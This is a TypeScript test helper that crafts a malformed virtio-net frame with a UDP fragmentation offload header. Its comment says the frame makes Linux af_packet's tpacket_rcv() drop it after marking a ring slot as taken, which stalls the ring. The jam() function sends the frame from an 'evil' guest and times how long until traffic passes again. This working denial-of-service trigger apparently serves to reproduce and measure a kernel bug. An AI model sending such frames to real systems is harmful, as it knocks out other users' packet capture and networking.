/**
 * UDP fragmentation offload (VIRTIO_NET_HDR_GSO_UDP): TAPs take it from anybody, and af_packet.c can't say it in
 * a virtio header again. In tpacket_rcv() it then drops the frame after it has marked the ring's next slot as
 * taken (`rx_owner_map`), so that no frame ever enters that ring any more.
 */
import type { FrameEnd } from '../../helpers/tap-guest.js';
import { ethernet, ipv4, udp, vnet } from './frames.js';

/** From a guest that may send it, to anywhere: it never gets there. */
export function jammingFrame(mac: string, source: string): Buffer {
	const packet = ipv4({ source, destination: '192.0.2.3' }, udp(1, 2, Buffer.alloc(4000)));
	return ethernet('02:1a:00:00:00:03', mac, 0x0800, packet);
}

export const jammingHeader = vnet({
	flags: 1,
	gsoType: 3,
	headerLength: 42,
	gsoSize: 1448,
	csumStart: 34,
	csumOffset: 6,
});

/**
 * Jams the slaves' ring by one frame and waits until frames pass again. `probe` is sent again and again, since
 * what comes while nobody has noticed is lost. @returns milliseconds.
 */
export function jam(
	evil: { mac: string; ipv4: string; end: FrameEnd },
	probe: Buffer,
	by: FrameEnd,
	at: FrameEnd,
	meanwhile: () => void = () => {},
): number {
	const started = performance.now();
	evil.end.send(jammingFrame(evil.mac, evil.ipv4), jammingHeader);
	while (performance.now() - started < 15_000) {
		by.send(probe);
		meanwhile();
		for (let received = at.receive(50); received; received = at.receive(0)) {
			if (received.frame.subarray(26).equals(probe.subarray(26))) return performance.now() - started;
		}
	}
	throw new Error('nothing passes any more');
}
